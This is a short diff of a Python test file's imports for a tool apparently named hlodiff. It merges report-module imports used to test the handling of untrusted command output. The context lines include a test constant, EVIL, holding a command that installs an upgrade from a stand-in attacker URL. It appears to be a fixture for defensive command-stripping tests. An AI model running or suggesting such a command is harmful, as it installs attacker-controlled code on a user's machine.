@@ -17,9 +17,8 @@ import pytest
 from markdown_it import MarkdownIt
 
 from hlodiff.cli.entry import _COMMANDS
-from hlodiff.report.forms import SAVED_FORM_NAMES, saved_to_form
-from hlodiff.report.untrusted_result import REMOVED, VERBS, known_command, read_untrusted_view, without_commands
-from hlodiff.report.view import ReportView
+from hlodiff.report import SAVED_FORM_NAMES, ReportView, read_untrusted_view, saved_to_form
+from hlodiff.report.untrusted_result import REMOVED, VERBS, known_command, without_commands
 
 Ask = Callable[..., tuple[int, str, str]]
 EVIL = "hlodiff upgrade 'evil @ https://evil.example/x'"
